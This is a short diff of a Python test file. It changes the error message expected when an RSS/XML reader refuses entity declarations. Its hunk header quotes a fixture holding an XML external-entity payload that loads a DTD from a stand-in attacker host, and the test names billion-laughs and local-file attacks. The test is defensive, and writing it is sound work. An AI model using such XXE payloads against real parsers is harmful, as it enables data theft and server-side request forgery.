@@ -101,7 +101,7 @@ PARAMETER = '<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
 def test_entities_are_refused(text: str, encoding: str) -> None:
     """Billion laughs, files of this machine, DTDs from elsewhere, in any encoding: one sentence."""
-    with pytest.raises(ReadError, match="declares entities"):
+    with pytest.raises(ReadError, match="declares XML entities"):
         links(text.encode(encoding))
 
 
